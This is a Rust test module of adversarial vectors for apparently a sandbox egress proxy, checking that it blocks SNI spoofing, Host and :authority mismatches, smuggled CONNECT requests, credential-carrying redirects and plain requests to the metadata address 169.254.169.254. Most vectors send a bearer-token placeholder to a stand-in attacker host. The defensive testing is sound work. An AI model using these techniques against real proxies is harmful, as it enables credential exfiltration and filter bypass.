//! Names that are not one's own, in TLS, HTTP/1.1 and HTTP/2.

use serde_json::{Value, json};

use super::{POLICY, vector};
use crate::adversary::{
    ground::EVIL,
    vector::{Group, Vector},
};

/// There is none: what is refused is refused by the daemon, and what a server would do of it is seen in the group's
/// vectors that are served.
const SERVED: &str = "the group's vectors that are served show that the server is reached";

fn identity(name: &str, tries: &'static str, order: &'static str, with: Value) -> Vector {
    vector(Group::Identity, name, tries, order, move |_| with.clone()).without_control(SERVED)
}

/// Only a handshake, by a ClientHello that is changed.
fn hello(name: &str, tries: &'static str, with: Value) -> Vector {
    identity(name, tries, "handshake", with)
}

/// A request on a connection for mirror.example, with the placeholder where it belongs.
fn request(name: &str, tries: &'static str, lines: &str) -> Vector {
    let request = format!("{lines}\r\nAuthorization: Bearer openshell:resolve:env:KEY\r\n\r\n");
    identity(
        name,
        tries,
        "exchange",
        json!({"to": EVIL, "request": request}),
    )
}

pub(super) fn vectors() -> Vec<Vector> {
    let mut all = tls();
    all.extend(http1());
    all.extend(http2());
    all
}

fn tls() -> Vec<Vector> {
    let served =
        "nothing is refused: the name's owner is dialled, wherever the client wanted to go";
    vec![
        hello("attackers-address", "an allowed name at the attacker's address", json!({"sni": "mirror.example", "to": EVIL}))
            .silent(&["handshake done"], served),
        hello("unknown-sni", "a name that no rule has", json!({"sni": "evil.test", "to": EVIL}))
            .refused(&["alert access_denied"], POLICY),
        hello("no-sni", "no name at all", json!({"sni": null, "to": EVIL}))
            .refused(&["alert unrecognized_name"], &["no_server_name"]),
        hello("doh", "DNS over HTTPS by the resolver's name", json!({"sni": "cloudflare-dns.com", "to": EVIL}))
            .refused(&["alert access_denied"], POLICY),
        hello("other-port", "an allowed name at a port that no rule has", json!({"sni": "mirror.example", "to": EVIL, "port": 8443}))
            .refused(&["alert access_denied"], POLICY),
        hello("ech-tunnel", "an encrypted ClientHello inside one for a tunnel", json!({"sni": "tunnel.example", "to": EVIL, "change": "encrypted"}))
            .refused(&["alert access_denied"], &["encrypted_client_hello"]),
        hello("ech", "an encrypted ClientHello inside one that is intercepted: the outer name counts", json!({"sni": "mirror.example", "to": EVIL, "change": "encrypted"}))
            .silent(&["alert DECRYPTION_FAILED_OR_BAD_RECORD_MAC"], "what is inside is not read by anybody; the handshake fails where it was put in on the way"),
        hello("two-names", "a second server_name extension", json!({"sni": "mirror.example", "to": EVIL, "change": "second_name", "name": "evil.test"}))
            .refused(&["alert decode_error"], &["client_hello"]),
        hello("split-records", "the ClientHello in records of 7 bytes", json!({"sni": "mirror.example", "to": EVIL, "change": "records", "width": 7}))
            .silent(&["handshake done"], served),
        hello("split-records-unknown", "the same for a name that no rule has", json!({"sni": "evil-records.test", "to": EVIL, "change": "records", "width": 7}))
            .refused(&["alert access_denied"], POLICY),
        hello("trickled", "the ClientHello byte by byte, for a name that no rule has", json!({"sni": "evil-bytes.test", "to": EVIL, "change": "trickle", "width": 1}))
            .refused(&["alert access_denied"], POLICY),
        hello("large", "a ClientHello of 20,000 bytes, for a name that no rule has", json!({"sni": "evil-large.test", "to": EVIL, "change": "extended", "number": 0xfafa, "length": 19_000}))
            .refused(&["alert access_denied"], POLICY),
        hello("nul-in-sni", "a NUL inside the name", json!({"sni": "mirror.exampleX", "to": EVIL, "change": "renamed", "old": "mirror.exampleX", "new": "mirror.example\0"}))
            .refused(&["alert illegal_parameter"], &["client_hello"]),
        hello("address-as-sni", "an address in place of the name", json!({"sni": "10.231.9.1x", "to": EVIL, "change": "renamed", "old": "10.231.9.1x", "new": "10.231.9.10"}))
            .refused(&["alert unrecognized_name"], &["client_hello"]),
        hello("hex-as-sni", "an address in hexadecimal", json!({"sni": "0x7f000001", "to": EVIL}))
            .refused(&["alert illegal_parameter"], &["client_hello"]),
        hello("number-as-sni", "an address as one number", json!({"sni": "2130706433", "to": EVIL}))
            .refused(&["alert illegal_parameter"], &["client_hello"]),
        hello("upper-case", "an allowed name in upper case", json!({"sni": "MIRROR.EXAMPLE", "to": EVIL}))
            .silent(&["handshake done"], "it is the same name"),
        hello("no-protocol", "no protocol in common (ALPN)", json!({"sni": "mirror.example", "to": EVIL, "protocols": ["smtp"]}))
            .refused(&["alert no_application_protocol"], &["unknown_protocol"]),
        certificate("expired", "an upstream whose certificate has expired"),
        certificate("self-signed", "an upstream whose certificate is self-signed"),
        certificate("wrong-name", "an upstream whose certificate is for another name"),
        certificate("untrusted", "an upstream whose authority nobody knows"),
        identity("garbage", "512 zeros in place of a ClientHello", "say", json!({"to": EVIL, "port": 443, "zeros": 512}))
            .refused(&["connected, then closed"], &["unknown_protocol"]),
        identity("broken-hello", "a record whose length is a lie", "say", json!({"to": EVIL, "port": 443, "text": "\u{16}\u{3}\u{1}\0\u{8}\u{1}\0\u{ff}\u{ff}\u{3}\u{3}\0\0", "patience": 1}))
            .refused(&["connected, then closed"], &["client_hello"]),
        identity("endless-hello", "a ClientHello of 100 KB that never ends", "say", json!({"to": EVIL, "port": 443, "text": "\u{16}\u{3}\u{1}\u{40}\0\u{1}\u{2}\0\0\u{3}\u{3}", "zeros": 100_000}))
            // Its alert, or a reset, where bytes are still on their way.
            .refused(&["alert decode_error", "connected, then closed"], &["client_hello"]),
    ]
}

fn certificate(flaw: &'static str, tries: &'static str) -> Vector {
    let sni = format!("{flaw}.mirror.example");
    hello(
        &format!("certificate-{flaw}"),
        tries,
        json!({"sni": sni, "to": EVIL}),
    )
    .refused(&["alert bad_certificate"], &["upstream_unverified"])
}

const MISMATCH: &[&str] = &["status 421 authority_mismatch"];
const MALFORMED: &[&str] = &["status 400 malformed_request"];

fn http1() -> Vec<Vector> {
    let refusals = &["authority_mismatch"];
    let malformed = &["malformed_request"];
    let mut all = vec![
        request("host", "Host is SNI: served, with the secret", "GET / HTTP/1.1\r\nHost: mirror.example")
            .silent(&["status 200"], "nothing is refused")
            .released(),
        request("host-spelled", "the same name in upper case, with its port and a dot at its end", "GET / HTTP/1.1\r\nHost: MIRROR.example.:443")
            .silent(&["status 200"], "it is the same name")
            .released(),
        request("other-host", "Host is another name than SNI", "GET / HTTP/1.1\r\nHost: evil.test")
            .refused(MISMATCH, refusals),
        request("other-allowed-host", "Host is another name, which policy allows too", "GET / HTTP/1.1\r\nHost: site.example")
            .refused(MISMATCH, refusals),
        request("host-with-port", "Host has another port", "GET / HTTP/1.1\r\nHost: mirror.example:8443")
            .refused(MISMATCH, refusals),
        request("host-prefix", "Host begins with the name", "GET / HTTP/1.1\r\nHost: mirror.example.evil.test")
            .refused(MISMATCH, refusals),
        request("host-userinfo", "Host with userinfo", "GET / HTTP/1.1\r\nHost: mirror.example@evil.test")
            .refused(MALFORMED, malformed),
        request("two-hosts", "two Host headers", "GET / HTTP/1.1\r\nHost: mirror.example\r\nHost: evil.test")
            .refused(MALFORMED, malformed),
        request("no-host", "no Host header", "GET / HTTP/1.1\r\nX-Nothing: here")
            .refused(MALFORMED, malformed),
        request("absolute", "an absolute URI for another host than Host's", "GET https://evil.test/ HTTP/1.1\r\nHost: mirror.example")
            .refused(MALFORMED, malformed),
        request("absolute-host", "Host for another host than the absolute URI's", "GET https://mirror.example/ HTTP/1.1\r\nHost: evil.test")
            .refused(MALFORMED, malformed),
        request("connect", "CONNECT inside the connection", "CONNECT evil.test:443 HTTP/1.1\r\nHost: evil.test")
            .refused(MALFORMED, malformed),
        request("trace", "TRACE, which sends the head back", "TRACE / HTTP/1.1\r\nHost: mirror.example")
            .refused(&["status 405 method_refused"], &["method_refused"]),
        request("forwarded-host", "X-Forwarded-Host and Forwarded name another host: text to us", "GET / HTTP/1.1\r\nHost: mirror.example\r\nX-Forwarded-Host: evil.test\r\nForwarded: host=evil.test")
            .silent(&["status 200"], "they are the server's affair, and it is the verified one")
            .released(),
        identity("second-host", "the second request on a connection is for another host", "exchange", json!({
            "to": EVIL, "sni": "site.example",
            "request": "GET /echo HTTP/1.1\r\nHost: site.example\r\n\r\nGET /echo HTTP/1.1\r\nHost: evil.test\r\nAuthorization: Bearer openshell:resolve:env:KEY\r\n\r\n",
        }))
        .refused(&["status 200 authority_mismatch"], refusals),
        identity("method", "a method beyond the endpoint's access", "exchange", json!({
            "to": EVIL, "sni": "reader.example",
            "request": "POST / HTTP/1.1\r\nHost: reader.example\r\nContent-Length: 0\r\nAuthorization: Bearer openshell:resolve:env:KEY\r\n\r\n",
        }))
        .refused(&["status 403 policy_denied"], &["policy_denied"]),
        identity("redirect", "follows a redirect to another host with its credential", "follow", json!({
            "sni": "site.example", "path": "/away", "header": "Authorization: Bearer openshell:resolve:env:KEY",
        }))
        .refused(&["redirected, NXDOMAIN"], &["dns"])
        .released(),
    ];
    let denied: &[&str] = &["status 403 policy_denied"];
    for (name, tries, host, said, reasons) in [
        (
            "plain-spoofed",
            "plain HTTP to the attacker with an allowed Host",
            "mirror.example",
            denied,
            POLICY,
        ),
        (
            "plain-unknown",
            "plain HTTP with a Host that no rule has",
            "evil.test",
            denied,
            POLICY,
        ),
        (
            "plain-address",
            "plain HTTP with an address as Host",
            "169.254.169.254",
            MALFORMED,
            malformed,
        ),
    ] {
        let request = format!(
            "GET / HTTP/1.1\r\nHost: {host}\r\nAuthorization: Bearer openshell:resolve:env:KEY\r\n\r\n"
        );
        all.push(
            identity(
                name,
                tries,
                "plain",
                json!({"to": EVIL, "request": request}),
            )
            .refused(said, reasons),
        );
    }
    all
}

fn http2() -> Vec<Vector> {
    let stream = |authority: &str, more: &[(&str, &str)]| {
        let mut fields = vec![
            (":method", "GET"),
            (":scheme", "https"),
            (":path", "/echo"),
            (":authority", authority),
            ("authorization", "Bearer openshell:resolve:env:KEY"),
        ];
        fields.extend(more);
        json!({"fields": fields})
    };
    let over = |name: &str, tries: &'static str, streams: Vec<Value>| {
        identity(
            name,
            tries,
            "over-h2",
            json!({"sni": "site.example", "to": EVIL, "streams": streams}),
        )
    };
    let refusals = &["authority_mismatch"];
    vec![
        over(
            "h2",
            "a stream for SNI's name: served, with the secret",
            vec![stream("site.example", &[])],
        )
        .silent(&["status 200"], "nothing is refused")
        .released(),
        over(
            "h2-other",
            "a stream for another name",
            vec![stream("evil.test", &[])],
        )
        .refused(&["status 421"], refusals),
        over(
            "h2-coalesced",
            "a stream for another allowed name of the same server and certificate",
            vec![stream("other.site.example", &[])],
        )
        .refused(&["status 421"], refusals),
        over(
            "h2-second",
            "a good stream, and then one for another name",
            vec![stream("site.example", &[]), stream("evil.test", &[])],
        )
        .refused(&["status 200, status 421"], refusals)
        .released(),
        over(
            "h2-host",
            "host is another name than :authority",
            vec![stream("site.example", &[("host", "evil.test")])],
        )
        .refused(&["status 400"], &["malformed_request"]),
        over(
            "h2-userinfo",
            ":authority with userinfo",
            vec![stream("site.example@evil.test", &[])],
        )
        .refused(&["status 400"], &["malformed_request"]),
    ]
}
